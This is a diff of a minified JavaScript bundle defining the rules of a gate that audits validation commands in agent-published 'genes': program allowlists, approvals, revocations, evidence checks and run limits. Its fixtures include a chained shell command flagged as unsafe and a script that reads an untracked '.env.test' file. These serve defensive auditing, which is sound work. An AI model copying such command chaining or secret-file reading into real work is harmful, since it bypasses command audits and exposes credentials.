 l",why:"The policy allows these commands only after approval: strong confirmation is for dangerous commands and requires\
  one person, and very strong confirmation is for experimental commands and requires two, unless `approvals` in the polic\
 y sets other numbers. No command of the gene runs before the approval, and the verdict is `needs_approval`. An approval \
 applies to the files of the head, the base branch, the commands and the policy, so every push ends it, unless it changes\
  only files that `approvals.unaffected_by` in the policy names; a base branch that moves on does not. See [approvals](..\
-/approvals.md).",wrong:{...w,policy:d,approvedBy:["author"]},right:{...w,policy:d,approvedBy:["alice"]},configure:`A pol\
+/approvals.md).",wrong:{...y,policy:h,approvedBy:["author"]},right:{...y,policy:h,approvedBy:["alice"]},configure:`A pol\
 icy whose profile does not require confirmation, such as evolver, waits only for scripts that nobody can read.
-A gene whose commands are neither dangerous nor experimental, and run no such script, never waits.`,message:({gene:O,confirmation:$,
-needed:R,given:M,commands:D,refusals:W})=>`The gene \`${O}\` waits for approval: ${m(D)} ${$} confirmation${p(R,M)}${x(W)}\
-.`,remedy:({needed:O,means:$,digest:R})=>_(O,$,"these commands may run with the files of this commit",R)})})},9969:function(A,t,s){
-Object.defineProperty(t,"__esModule",{value:!0}),t.programRules=void 0;function e(){const c=s(43767);return e=function(){
-return c},c}function n(c=[]){const r=["node","npm","npx",...c].map(u=>`\`${u}\``);return`${r.slice(0,-1).join(", ")}, an\
-d ${r.at(-1)}`}const i=new Set(": cd echo exit export false printf pwd return set true umask unset wait".split(" "));function a(c){
-return`Move what \`${c}\` does into a Node script and run it with \`node\``}const w=/^(?:interpreter|builder|manager|other)$/,
-g=/^[A-Za-z][\w.+-]*$/;function o({program:c,group:r="",offered:u="",word:f=""}){const d="in the policy of the base bran\
-ch";return u!==""?`, or ${f===""?"":`write \`${f}\` and `}add \`${u}\` to \`programs\` ${d}`:w.test(r)&&g.test(c)?`, or \
-describe the program with \`families\` and add it to \`programs\` ${d}`:""}const h=t.programRules=(0,e().rules)("program",
-"broken",{"command-not-text":(0,e().rule)({anyText:!0,title:"Validation command is not a string",why:"Each entry of `val\
-idation` is one command line. Engines that convert other values to text run a command that was never written: a nested l\
-ist becomes its joined entries.",wrong:{command:["node scripts/check.js"]},right:"node scripts/check.js",message:"A vali\
-dation command must be a string, but this one has the type `{type}`.",remedy:"Write each command as a string in `validat\
-ion`."}),sentence:(0,e().rule)({title:"Command is a sentence",why:"A sentence cannot run, so it validates nothing. A scr\
-ipt that fails when the sentence is not true can.",wrong:"README.md exists",right:"node scripts/validate/readme-exists.j\
-s",message:"The validation entry is a sentence, not a command.",remedy:"A validation command is a program with its argum\
-ents. Write a Node script that fails when the sentence is not true, and run it with `node`."}),"program-by-path":(0,e().
-rule)({title:"Program is a path",why:"Only `node`, `npm`, and `npx` are allowed, and the gate locates them itself. A pat\
-h can point to any file.",wrong:"./node_modules/.bin/eslint src",right:"npx eslint src",counted:["offered","word"],message:"\
-The program `{program}` is a path; only `node`, `npm`, and `npx` are allowed.",remedy:({program:c,offered:r="",word:u=""})=>/(?:^|[\\/])node_modules[\\/]\.bin[\\/]/.
-test(c)?"Run the tool by its name, without its path.":/\.[cm]?[jt]s$/.test(c)?"Run the script with `node`.":`Move the wo\
-rk into a Node script and run it with \`node\`${o({program:c,offered:r,word:u})}.`}),"program-look-alike":(0,e().rule)({
-harm:"danger",title:"Program name does not match exactly",why:"On Windows or a file system that ignores case, `NODE` or \
-`node.exe` can be a different file than `node`. Program names are compared exactly.",wrong:"Node scripts/check.js",right:"\
-node scripts/check.js",message:"`{program}` is not `{meant}`; program names must match exactly.",remedy:"Write the name \
-of the program as `{meant}`."}),"program-not-allowed":(0,e().rule)({title:"Program is not allowed",why:"Validation runs \
-on unattended machines. `node`, `npm`, and `npx` are available on all of them, and the gate understands every argument o\
-f these programs. A policy can allow other programs by name, with `programs`. Move anything else into a Node script.",wrong:"\
-bash scripts/check.sh",right:"node scripts/check.js",configure:"programs: [pytest, cargo]",counted:["offered","word","al\
-lowed"],message:({program:c,allowed:r})=>`\`${c}\` is not an allowed program; only ${n(r)} are allowed.`,remedy:c=>c.group===
-"npx"?`Add the package of \`${c.program}\` to \`devDependencies\` and the lockfile, and run it with \`npx\`.`:i.has(c.program)?
-`Write a command that fails if something is wrong, such as \`node scripts/check.js\`; \`${c.program}\` checks nothing.`:
-`${a(c.program)}${o(c)}.`})},"`evolver` and `validator`")},17188:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),
-t.promotionRules=void 0;function e(){const u=s(67298);return e=function(){return u},u}function n(){const u=s(43767);return n=
-function(){return u},u}const i={gene:"gene_b"},a={status:"success",score:.9,notes:"It went well."},w=[(0,e().event)({genes_used:[
+A gene whose commands are neither dangerous nor experimental, and run no such script, never waits.`,message:({gene:T,confirmation:$,
+needed:R,given:M,commands:F,refusals:G})=>`The gene \`${T}\` waits for approval: ${w(F)} ${$} confirmation${f(R,M)}${x(G)}\
+.`,remedy:({needed:T,means:$,digest:R})=>S(T,$,"these commands may run with the files of this commit",R)})})},9969:function(A,t,s){
+Object.defineProperty(t,"__esModule",{value:!0}),t.programRules=void 0;function e(){const m=s(43767);return e=function(){
+return m},m}function n(m=[]){const a=["node","npm","npx",...m].map(i=>`\`${i}\``);return`${a.slice(0,-1).join(", ")}, an\
+d ${a.at(-1)}`}const c=new Set(": cd echo exit export false printf pwd return set true umask unset wait".split(" ")),r=/^(?:python3?|php|bun|deno)$/,
+y=/^(?:interpreter|builder|manager|other)$/,g=/^[A-Za-z][\w.+-]*$/;function o({program:m,allowed:a=[],...i}){const{group:p="",
+offered:h="",word:_=""}=i;if(h!=="")return`${_===""?"Allow":`Write \`${_}\`, and allow`} \`${h}\` in the policy: add it t\
+o \`programs\` on the base branch.`;if(_!==""){const d=/^python3?$/.test(m)?` -m ${_}`:"";return`Write \`${_}\` instead o\
+f \`${m}${d}\`.`}const v=a.find(d=>r.test(d))??"node",b=y.test(p)&&g.test(m)?", or describe the program with `families` \
+and add it to `programs` in the policy of the base branch":"";return`Move what \`${m}\` does into a script and run it wit\
+h \`${v}\`${b}.`}const l=t.programRules=(0,e().rules)("program","broken",{"command-not-text":(0,e().rule)({anyText:!0,title:"\
+Validation command is not a string",why:"Each entry of `validation` is one command line. Engines that convert other valu\
+es to text run a command that was never written: a nested list becomes its joined entries.",wrong:{command:["node script\
+s/check.js"]},right:"node scripts/check.js",message:"A validation command must be a string, but this one has the type `{\
+type}`.",remedy:"Write each command as a string in `validation`."}),sentence:(0,e().rule)({title:"Command is a sentence",
+why:"A sentence cannot run, so it validates nothing. A script that fails when the sentence is not true can.",wrong:"READ\
+ME.md exists",right:"node scripts/validate/readme-exists.js",message:"The validation entry is a sentence, not a command.",
+remedy:"A validation command is a program with its arguments. Write a script that fails when the sentence is not true, a\
+nd run it, for example with `node`."}),"program-by-path":(0,e().rule)({title:"Program is a path",why:"Only `node`, `npm`\
+, and `npx` are allowed, and the gate locates them itself. A path can point to any file.",wrong:"./node_modules/.bin/esl\
+int src",right:"npx eslint src",counted:["offered","word","allowed"],message:({program:m,allowed:a})=>`The program \`${m}\
+\` is a path; only ${n(a)} are allowed.`,remedy:m=>/(?:^|[\\/])node_modules[\\/]\.bin[\\/]/.test(m.program)?"Run the too\
+l by its name, without its path.":/\.[cm]?[jt]s$/.test(m.program)?"Run the script with `node`.":o(m)}),"program-look-ali\
+ke":(0,e().rule)({harm:"danger",title:"Program name does not match exactly",why:"On Windows or a file system that ignore\
+s case, `NODE` or `node.exe` can be a different file than `node`. Program names are compared exactly.",wrong:"Node scrip\
+ts/check.js",right:"node scripts/check.js",message:"`{program}` is not `{meant}`; program names must match exactly.",remedy:"\
+Write the name of the program as `{meant}`."}),"program-not-allowed":(0,e().rule)({title:"Program is not allowed",why:"V\
+alidation runs on unattended machines. `node`, `npm`, and `npx` are available on all of them, and the gate understands e\
+very argument of these programs. A policy can allow other programs by name, with `programs`. Move anything else into a s\
+cript.",wrong:"bash scripts/check.sh",right:"node scripts/check.js",configure:"programs: [pytest, cargo]",counted:["offe\
+red","word","allowed"],message:({program:m,allowed:a})=>`\`${m}\` is not an allowed program; only ${n(a)} are allowed.`,
+remedy:m=>m.group==="npx"?`Add the package of \`${m.program}\` to \`devDependencies\` and the lockfile, and run it with \`np\
+x\`.`:c.has(m.program)?`Write a command that fails if something is wrong, such as \`node scripts/check.js\`; \`${m.program}\
+\` checks nothing.`:o(m)})},"`evolver` and `validator`")},17188:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),
+t.promotionRules=void 0;function e(){const i=s(67298);return e=function(){return i},i}function n(){const i=s(43767);return n=
+function(){return i},i}const c={gene:"gene_b"},r={status:"success",score:.9,notes:"It went well."},y=[(0,e().event)({genes_used:[
 "gene_b"],capsule_id:"capsule_1"}),(0,e().event)({id:"evt_2",parent:"evt_1",genes_used:["gene_b"],capsule_id:"capsule_1"})],
-g={files:(0,e().genes)({summary:"Another one."}).head},o="assets/gep/genes_revoked.json";function h(u){return`${JSON.stringify(
-{...{protocol:"gep-a2a",message_type:"revoke",sender_id:"node_7"},payload:{target_local_id:u,reason:"It deletes files."}},
+g={files:(0,e().genes)({summary:"Another one."}).head},o="assets/gep/genes_revoked.json";function l(i){return`${JSON.stringify(
+{...{protocol:"gep-a2a",message_type:"revoke",sender_id:"node_7"},payload:{target_local_id:i,reason:"It deletes files."}},
 null,2)}
-`}const c={candidates:[(0,e().gene)()],reports:[(0,e().validationReport)()]},r=t.promotionRules=(0,n().rules)("promotion",
+`}const m={candidates:[(0,e().gene)()],reports:[(0,e().validationReport)()]},a=t.promotionRules=(0,n().rules)("promotion",
 "bookkeeping",{"asset-revoked":(0,n().rule)({harm:"danger",title:"Asset is revoked",why:"A message of the type `revoke` \
 withdraws a published asset. An asset that a message among the candidates or in the repository revokes is refused. If th\
-e repository already has the asset, the answer lists it in `revoked`.",wrong:{candidates:[(0,e().gene)()],files:{[o]:h("\
-gene_a")}},right:{candidates:[(0,e().gene)()],files:{[o]:h("gene_other")}},message:({type:u,id:f,by:d,why:S})=>`The ${u}\
- \`${f}\` is revoked by \`${d}\`${S===""?"":`: ${S}`}.`,remedy:"Remove the asset where it is used, and ask its author fo\
+e repository already has the asset, the answer lists it in `revoked`.",wrong:{candidates:[(0,e().gene)()],files:{[o]:l("\
+gene_a")}},right:{candidates:[(0,e().gene)()],files:{[o]:l("gene_other")}},message:({type:i,id:p,by:h,why:_})=>`The ${i}\
+ \`${p}\` is revoked by \`${h}\`${_===""?"":`: ${_}`}.`,remedy:"Remove the asset where it is used, and ask its author fo\
 r another version."}),"unsafe-validation-command":(0,n().rule)({harm:"danger",title:"Candidate has a validation command \
 that is not allowed",why:"If you promote a gene, its commands run in your repository from then on. A command that the au\
 dit blocks is rejected with the message of the reference engine, and the findings that follow explain what it would do.",
 wrong:{candidates:[(0,e().gene)({validation:["npm test && node scripts/b.js"]})],also:{"shell-operator":"It says why the\
- command is unsafe."}},right:{candidates:[(0,e().gene)({validation:["npm test"]})]},message:"Unsafe validation command: \
-{command}",remedy:"Ask the author for a command that the audit allows."}),"strategy-missing":(0,n().rule)({title:"Candid\
-ate has no strategy",why:"The strategy of a gene is the list of steps that an agent takes. A gene without a step has not\
-hing to promote, and other agents reject it.",wrong:{candidates:[(0,e().gene)({strategy:[]})],also:{"schema-field":"The \
-schema asks for a step, too."}},right:{candidates:[(0,e().gene)({strategy:["Remove the error."]})]},message:"The gene `{\
-gene}` has no strategy.",remedy:"Add at least one non-empty step to `strategy`."}),"id-unusable":(0,n().rule)({title:"Id\
- of a candidate cannot be used",why:"Logs, reports and other assets name an asset by its id. Control characters in it hi\
-de text or change its order, and nobody compares ids of more than 200 characters. The repository keeps its own assets: a\
- candidate never replaces an asset that has the same id and different content, as in the reference engine. Of two candid\
-ates with the same id, the first is kept.",wrong:{candidates:[(0,e().gene)()],...g},right:{candidates:[(0,e().gene)({id:"\
+ command is unsafe."}},right:{candidates:[(0,e().gene)({validation:["node scripts/b.js"]})]},message:"Unsafe validation \
+command: {command}",remedy:"Ask the author for a command that the audit allows."}),"strategy-missing":(0,n().rule)({title:"\
+Candidate has no strategy",why:"The strategy of a gene is the list of steps that an agent takes. A gene without a step h\
+as nothing to promote, and other agents reject it.",wrong:{candidates:[(0,e().gene)({strategy:[]})],also:{"schema-field":"\
+The schema asks for a step, too."}},right:{candidates:[(0,e().gene)({strategy:["Remove the error."]})]},message:"The gen\
+e `{gene}` has no strategy.",remedy:"Add at least one non-empty step to `strategy`."}),"id-unusable":(0,n().rule)({title:"\
+Id of a candidate cannot be used",why:"Logs, reports and other assets name an asset by its id. Control characters in it \
+hide text or change its order, and nobody compares ids of more than 200 characters. The repository keeps its own assets:\
+ a candidate never replaces an asset that has the same id and different content, as in the reference engine. Of two cand\
+idates with the same id, the first is kept.",wrong:{candidates:[(0,e().gene)()],...g},right:{candidates:[(0,e().gene)({id:"\
 gene_a_from_agent_7"})],...g},message:"The id of the {type} `{id}` {why}.",remedy:"Ask the author for the asset with ano\
 ther id, or rename it and hash it again to keep both."}),"fields-not-hashed":(0,n().notice)({instance:["fields"],title:"\
 Fields of an asset are not covered by its hash",why:"A hub strips `outcome.notes` and `outcome.details` from a Capsule b\
 efore it hashes it, and an engine its local annotations (`generation_meta`, `model_name`) from a Gene. Anybody between i\
 ts author and you can change these texts, and the hash still matches. A promoted asset may be hashed again, and the new \
 hash would make such a text look like the author\u2019s. So the promoted asset does not contain it.",wrong:{candidates:[
-(0,e().capsule)({outcome:a,asset_id:e().RIGHT_HASH.hub})]},right:{candidates:[(0,e().capsule)({outcome:a,asset_id:e().RIGHT_HASH.
+(0,e().capsule)({outcome:r,asset_id:e().RIGHT_HASH.hub})]},right:{candidates:[(0,e().capsule)({outcome:r,asset_id:e().RIGHT_HASH.
 own})]},message:"The `asset_id` of the {type} `{id}` does not cover {fields}. The promoted {type} leaves this text out.",
 remedy:"No action is required; to keep the text, ask the author for the asset with the hash of its whole content."}),"bu\
 ndle-incomplete":(0,n().rule)({unproven:!0,title:"Candidate belongs to a bundle that is not promoted",why:"Agents publis\
 h a Gene together with the Capsules that prove it, and hubs accept a bundle as a whole. What one message or one archive \
 contains is a bundle, and of its Genes with their Capsules all are promoted or none is. Any other Capsule needs its Gene\
 , because it cannot be applied without it; a Gene does not need the Capsules that others offer.",wrong:{candidates:[(0,e().
-gene)({id:"gene_b",strategy:[]}),(0,e().capsule)(i)],events:w,also:{"schema-field":"It is why the Gene is not promoted.",
+gene)({id:"gene_b",strategy:[]}),(0,e().capsule)(c)],events:y,also:{"schema-field":"It is why the Gene is not promoted.",
 "strategy-missing":"It is why the Gene is not promoted."}},right:{candidates:[(0,e().gene)({id:"gene_b"}),(0,e().capsule)(
-i)],events:w},instance:["type","id","otherType","other"],message:"The {type} `{id}` is not promoted because the {otherTy\
+c)],events:y},instance:["type","id","otherType","other"],message:"The {type} `{id}` is not promoted because the {otherTy\
 pe} `{other}`, which it needs or was sent with, is not.",remedy:"Fix the other asset, or pass the two in separate promot\
 ions."}),"nothing-to-promote":(0,n().notice)({title:"Message or asset is nothing that agents exchange",why:"Agents offer\
  Genes, Capsules and EvolutionEvents in messages of the types `publish`, `report`, and `fetch`. Mutations and Validation\
@@ -2126,7 +2142,7 @@ ed: a signed promotion counts if it promoted the same content by the report of a
 he repository, the workflow file, and the ref that it runs for), if it was decided by the policy of this promotion or on\
 e that the policy names for this signer, and if it is not older than `max_age_days`. The newest one counts. With `--run`\
 , all commands of a gene must pass; if the run was interrupted or waits for approval, the result is unknown.",wrong:{candidates:[
-(0,e().gene)()],reports:[(0,e().validationReport)({gene_asset_id:e().WRONG_HASH})]},right:c,configure:`a2a:
+(0,e().gene)()],reports:[(0,e().validationReport)({gene_asset_id:e().WRONG_HASH})]},right:m,configure:`a2a:
   attestation:
     - repository: agents/genes
       workflow: .github/workflows/gene-gate.yml
@@ -2137,84 +2153,80 @@ e that the policy names for this signer, and if it is not older than `max_age_da
 The policy says how well it must be proven that the commands of a gene passed. The levels, from the lowest: `claimed`, n\
 obody but the sender says so; `gate`, a GateReport of this gate for this content and policy, or `--run`; `signed`, a pro\
 motion with such evidence whose signature is verified. The candidate is quarantined until better evidence is passed.",wrong:{
-...c,policy:`a2a:
+...m,policy:`a2a:
   require_evidence: signed
-`},right:{...c,policy:`a2a:
+`},right:{...m,policy:`a2a:
   require_evidence: gate
 `},configure:`a2a:
   require_evidence: gate`,message:"The evidence for the {type} `{id}` has the level `{level}`, but the policy requires `\
-{required}`.",remedy:({required:u})=>u==="signed"?"Pass a signed promotion of the asset with `--attestation`.":"Pass the\
+{required}`.",remedy:({required:i})=>i==="signed"?"Pass a signed promotion of the asset with `--attestation`.":"Pass the\
  `gate-report.json` of the gate with `--report`, or run the commands with `--run` and `--repo`."}),"validation-failed":(0,n().
 rule)({title:"Evidence says that the validation failed",why:"A gene is promoted only if all of its commands ran and pass\
 ed. A promotion that rejected it can be signed, too; of several about the same content, the newest counts.",wrong:{candidates:[
-(0,e().gene)()],reports:[(0,e().validationReport)({overall_ok:!1})]},right:c,instance:["source"],message:"The {source} {\
+(0,e().gene)()],reports:[(0,e().validationReport)({overall_ok:!1})]},right:m,instance:["source"],message:"The {source} {\
 what}.",remedy:"Fix what failed, and validate the asset again with the gate."}),"evidence-invalid":(0,n().rule)({harm:"d\
 anger",title:"Report or attestation is false or cannot be verified",why:"Anyone can write a file that looks like evidenc\
 e. The `asset_id` of a ValidationReport is the hash of its content, its lists agree, it names the gene and exactly its c\
 ommands, and the GateReport that contains it says the same. Of an attestation, the signature, the certificate of the sig\
 ner, the entry in the transparency log and the signed time are verified with the trusted root, and its statement is a pr\
 omotion (`promotion/v1`).",wrong:{candidates:[(0,e().gene)()],reports:[(0,e().validationReport)({asset_id:e().WRONG_HASH})]},
-right:c,instance:["source"],message:"The {source} is not evidence: {why}.",remedy:"Validate the current version of the a\
+right:m,instance:["source"],message:"The {source} is not evidence: {why}.",remedy:"Validate the current version of the a\
 sset with the gate, and pass its evidence exactly as it was written, an attestation with the trusted root of its Sigstor\
-e instance."})})},36773:function(A,t){Object.defineProperty(t,"__esModule",{value:!0}),t.inCode=s,t.singleQuoted=e;function s(n){
-return n.map(i=>`\`${i}\``).join(", ")}function e(n){return`'${n.replaceAll("'","'\\''")}'`}},43767:function(A,t,s){Object.
-defineProperty(t,"__esModule",{value:!0}),t.mayBeIgnored=h,t.mayBeSoftened=c,t.rule=t.notice=void 0,t.rules=g,t.warning=
-void 0;function e(){const r=s(36773);return e=function(){return r},r}function n(r){return u=>({severity:r,...u})}const i=t.
-rule=n("error"),a=t.warning=n("warning"),w=t.notice=n("notice");function g(r,u,f,d){const S=Object.entries(f).map(([k,v])=>[
-k,{id:k,layer:r,...d&&{profile:d},harm:v.severity==="error"?u:"bookkeeping",...v,message:o(v.message),remedy:o(v.remedy)}]);
-return Object.fromEntries(S)}function o(r){return typeof r!="string"?r:u=>r.replace(/\{(\w+)\}/g,(f,d)=>{const S=u[d]??f;
-return typeof S=="object"?(0,e().inCode)(S):String(S)})}function h({severity:r,layer:u,ignorable:f}){return u!=="policy"&&
-(r!=="error"||f===!0)}function c(r){return r.group!==void 0||h(r)}},65316:function(A,t,s){Object.defineProperty(t,"__esM\
-odule",{value:!0}),t.runRules=void 0;function e(){const _=s(67298);return e=function(){return _},_}function n(){const _=s(
-36773);return n=function(){return _},_}function i(){const _=s(43767);return i=function(){return _},_}function a(_){return{
-head:{[e().GENES]:[(0,e().gene)({validation:["node scripts/check.js"]})],"scripts/check.js":_},run:{}}}const w=`containm\
-ent: require
-`;function g(_){const{head:y}=a(_);return{head:{...y,"src/sum.js":`exports.sum = (a, b) => a + b;
-`},policy:`${w}mutants: auto
-`,run:{}}}const o=a(`console.log('OK');
-`),h={...o,run:{prepare:"node --version"}},c={"target-writes":"The audit cannot tell where to."},r=`const fs = require('\
+e instance."})})},43767:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),t.mayBeIgnored=l,t.mayBeSoftened=
+m,t.rule=t.notice=void 0,t.rules=g,t.warning=void 0;function e(){const a=s(36773);return e=function(){return a},a}function n(a){
+return i=>({severity:a,...i})}const c=t.rule=n("error"),r=t.warning=n("warning"),y=t.notice=n("notice");function g(a,i,p,h){
+const _=Object.entries(p).map(([v,b])=>[v,{id:v,layer:a,...h&&{profile:h},harm:b.severity==="error"?i:"bookkeeping",...b,
+message:o(b.message),remedy:o(b.remedy)}]);return Object.fromEntries(_)}function o(a){return typeof a!="string"?a:i=>a.replace(
+/\{(\w+)\}/g,(p,h)=>{const _=i[h]??p;return typeof _=="object"?(0,e().inCode)(_):String(_)})}function l({severity:a,layer:i,
+ignorable:p}){return i!=="policy"&&(a!=="error"||p===!0)}function m(a){return a.group!==void 0||l(a)}},65316:function(A,t,s){
+Object.defineProperty(t,"__esModule",{value:!0}),t.runRules=void 0;function e(){const d=s(67298);return e=function(){return d},
+d}function n(){const d=s(36773);return n=function(){return d},d}function c(){const d=s(43767);return c=function(){return d},
+d}function r(d){return{head:{[e().GENES]:[(0,e().gene)({validation:["node scripts/check.js"]})],"scripts/check.js":d},run:{}}}
+const y=`containment: require
+`;function g(d){const{head:S}=r(d),k=f=>({"src/sum.js":`exports.sum = (a, b) => a ${f} b;
+`}),w=`${y}proof: auto
+`;return{base:k("-"),head:{...S,...k("+")},policy:w,run:{}}}const o=r(`console.log('OK');
+`),l={...o,run:{prepare:"node --version"}},m={"target-writes":"The audit cannot tell where to."},a=`const fs = require('\
 node:fs');
-`,u={...a(`${r}fs.readFileSync('.env.test');
+`,i={...r(`${a}fs.readFileSync('.env.test');
 `),run:{untracked:{".env.test":`MODE=test
-`}}},f=`setInterval(() => {}, 1000);
-`;function d(_){return _&&`; ${_}`}const S=5;function k(_){return`${(0,n().inCode)(_.slice(0,S))}${_.length>S?", \u2026":
-""}`}function v(_,y,m){const p=m>S?` (${m} files)`:"",l=`${k(y)}${p}`;return _==="functions_fail"?`every function of ${l}\
- made to fail`:_==="unparsable"?`${l} made unreadable for every parser`:`${l} broken`}const b=t.runRules=(0,i().rules)("\
-run","broken",{"command-failed":(0,i().rule)({counted:["how"],title:"Validation command failed",why:"A command passes wh\
-en it exits with code 0. It fails with any other code, and if it could not start or was killed by a signal: without an e\
-xit code it has validated nothing. The later commands of the gene are skipped. If containment explains the failure, beca\
-use a command reached a limit or needs something of the machine that it does not see, the finding says what to change.",
-wrong:a(`console.error('Missing required.txt');
+`}}},p=`setInterval(() => {}, 1000);
+`;function h(d){return d&&`; ${d}`}const _=5;function v(d){return`${(0,n().inCode)(d.slice(0,_))}${d.length>_?", \u2026":
+""}`}const b=t.runRules=(0,c().rules)("run","broken",{"command-failed":(0,c().rule)({counted:["how"],title:"Validation c\
+ommand failed",why:"A command passes when it exits with code 0. It fails with any other code, and if it could not start \
+or was killed by a signal: without an exit code it has validated nothing. The later commands of the gene are skipped. If\
+ containment explains the failure, because a command reached a limit or needs something of the machine that it does not \
+see, the finding says what to change.",wrong:r(`console.error('Missing required.txt');
 process.exit(1);
-`),right:o,message:({command:_,how:y,contained:m})=>`The command \`${_}\` ${y}${d(m)}.`,remedy:({command:_,change:y})=>y||
-`Run \`${_}\` locally, fix what it reports or why it ends, and push again.`}),"command-timed-out":(0,i().rule)({title:"V\
+`),right:o,message:({command:d,how:S,contained:k})=>`The command \`${d}\` ${S}${h(k)}.`,remedy:({command:d,change:S})=>S||
+`Run \`${d}\` locally, fix what it reports or why it ends, and push again.`}),"command-timed-out":(0,c().rule)({title:"V\
 alidation command exceeded its time limit",why:"A command that hangs would block the pull request forever. After the tim\
-e limit (180 seconds by default), its process group is asked to terminate, and killed if it does not.",wrong:{...a(f),policy:`\
+e limit (180 seconds by default), its process group is asked to terminate, and killed if it does not.",wrong:{...r(p),policy:`\
 limits:
   command_timeout_seconds: 1
 `},right:{...o,policy:`limits:
   command_timeout_seconds: 60
 `},configure:`limits:
-  command_timeout_seconds: 300`,message:({command:_,seconds:y,contained:m})=>`The command \`${_}\` exceeded its time limi\
-t and was stopped after ${y} seconds${d(m)}.`,remedy:({change:_})=>_||"Split the command into smaller checks, or find ou\
-t what it waits for."}),"budget-spent":(0,i().rule)({title:"Time limit for all commands was exceeded",why:"All commands \
+  command_timeout_seconds: 300`,message:({command:d,seconds:S,contained:k})=>`The command \`${d}\` exceeded its time limi\
+t and was stopped after ${S} seconds${h(k)}.`,remedy:({change:d})=>d||"Split the command into smaller checks, or find ou\
+t what it waits for."}),"budget-spent":(0,c().rule)({title:"Time limit for all commands was exceeded",why:"All commands \
 of a run share one time limit, in addition to the time limit of each command, so that the gate can report before the job\
  itself is stopped. When the time is up, running commands are stopped and the remaining ones do not start. A command tha\
-t did not finish has not passed.",wrong:{...a(f),policy:`limits:
+t did not finish has not passed.",wrong:{...r(p),policy:`limits:
   budget_seconds: 1
 `},right:{...o,policy:`limits:
   budget_seconds: 60
 `},configure:`limits:
-  budget_seconds: 18000`,message:({gene:_,seconds:y,commands:m})=>`The time limit of ${y} seconds for all commands was e\
-xceeded, and ${m===1?"one command":`${m} commands`} of the gene \`${_}\` did not finish.`,remedy:"Make the slowest comma\
-nds faster, or increase `limits.budget_seconds` and the time limit of the job."}),"program-missing":(0,i().rule)({group:"\
+  budget_seconds: 18000`,message:({gene:d,seconds:S,commands:k})=>`The time limit of ${S} seconds for all commands was e\
+xceeded, and ${k===1?"one command":`${k} commands`} of the gene \`${d}\` did not finish.`,remedy:"Make the slowest comma\
+nds faster, or increase `limits.budget_seconds` and the time limit of the job."}),"program-missing":(0,c().rule)({group:"\
 environment",actor:"human",title:"Program or tool of a validation command is not installed",why:"A command whose program\
  the machine does not have has validated nothing, so it counts as failed. A tool from the dependencies of the repository\
  runs from `node_modules`, where it was audited; if it is missing, npx would search elsewhere or download it. The other \
 genes still run.",wrong:{...(0,e().genes)({validation:["npx eslint src"]}),run:{}},right:{...(0,e().genes)({validation:[
 "npx eslint src"]}),run:{installed:!0}},message:"The command `{command}` needs `{program}`, which {where}.",remedy:"Inst\
 all `{program}` before the gate runs: dependencies with `prepare: npm ci --ignore-scripts` in the workflow, or in a term\
-inal, and a program in a directory outside the checkout. Shell builtins such as `cd` cannot run."}),"command-slow":(0,i().
+inal, and a program in a directory outside the checkout. Shell builtins such as `cd` cannot run."}),"command-slow":(0,c().
 warning)({title:"Validation command is slow",why:"Validation commands run for every change that names the gene, and agai\
 n wherever the gene is promoted. The protocol recommends less than 60 seconds for each command.",wrong:{...o,policy:`lim\
 its:
@@ -2223,190 +2235,191 @@ its:
   slow_command_seconds: 120
 `},configure:`limits:
   slow_command_seconds: 120`,message:"The command `{command}` took {seconds} seconds; commands above {limit} seconds are\
- slow.",remedy:"Use a smaller, faster check."}),"passes-when-broken":(0,i().warning)({advice:!0,harm:"broken",title:"Com\
-mand passes when the change is broken",why:"A command that cannot fail validates nothing. After the commands of a gene p\
-assed, they run once more on a copy in which each function of the changed files fails. A command that passes there as we\
-ll does not detect that defect. It is a warning if no command of the gene detects it, or if the command runs tests, and \
-otherwise a notice: a linter need not see what tests see. [Can it fail?](../commands.md#can-it-fail) says what this prov\
-es and what it does not.",wrong:g(`console.log('OK');
+ slow.",remedy:"Use a smaller, faster check."}),"nothing-shown":(0,c().warning)({advice:!0,harm:"broken",title:"No comma\
+nd fails without the change",why:"A check of a change fails without it: before a bug is fixed, its test fails. After the\
+ commands of a gene passed, they run once more with the change taken back: its edits and deletions, but not its tests, m\
+anifests, settings, scripts and assets. Added files stay, but the functions of one of them at a time fail. If all comman\
+ds pass there as well, nothing shows that they check the change. It is a notice if only documents change, and for a part\
+ of the change without which every command passed. [Fails without the change](../commands.md#fails-without-the-change) s\
+ays what this proves and what it does not.",wrong:g(`console.log('OK');
 `),right:g(`const { sum } = require('../src/sum.js');
 if (sum(1, 2) !== 3) process.exit(1);
-`),configure:`mutants: off
+`),configure:`proof: off
 # or, to require it of every gene
 rules:
-  passes-when-broken: error`,counted:["files","total","how"],message:({command:_,files:y,total:m,how:p,isExisting:l})=>l?
-`The command \`${_}\` notices defects of new files only: it also passed with ${v(p,y,m)}, which existed before.`:`The co\
-mmand \`${_}\` also passed with ${v(p,y,m)}; it does not detect this.`,remedy:({files:[_="the change",...y]})=>`Make one\
- command fail when \`${_}\`${y.length>0?" (or another of these files)":""} is broken, for example by a test that calls i\
-t. Remove or replace a command that checks nothing.`}),"command-writes":(0,i().warning)({title:"Validation command write\
-s to the checkout",why:"A validation command should only read. Each command has a private copy of the checkout, so its o\
-utput files are discarded when it ends, and a later command that needs them fails. Caches are not reported.",wrong:{...a(
-`${r}fs.writeFileSync('report.txt', 'OK');
-`),policy:w},right:{...a(`${r}fs.writeFileSync(process.env.TMPDIR + '/report.txt', 'OK');
-`),policy:w,also:c},configure:`caches:
+  nothing-shown: error`,counted:["files","lines"],message:({commands:d,files:S,lines:k})=>k===""?`${(0,n().inCode)(d)} ${d.
+length>1?"pass":"passes"} with and without this change of ${v(S)}.`:`Every command passes without ${k} of ${v(S)}.`,remedy:({
+lines:d})=>`Add a test that fails without ${/^lines/.test(d)?"them":"it"}.`}),"command-writes":(0,c().warning)({title:"V\
+alidation command writes to the checkout",why:"A validation command should only read. Each command has a private copy of\
+ the checkout, so its output files are discarded when it ends, and a later command that needs them fails. Caches are not\
+ reported.",wrong:{...r(`${a}fs.writeFileSync('report.txt', 'OK');
+`),policy:y},right:{...r(`${a}fs.writeFileSync(process.env.TMPDIR + '/report.txt', 'OK');
+`),policy:y,also:m},configure:`caches:
   - '**/.cache/**'
-  - 'coverage/**'`,message:({command:_,paths:y})=>`The command \`${_}\` wrote to the checkout: ${k(y)}.`,remedy:"Write t\
-o the temporary directory (`TMPDIR`), or add the cache to `caches` in the policy."}),"checkout-modified":(0,i().rule)({harm:"\
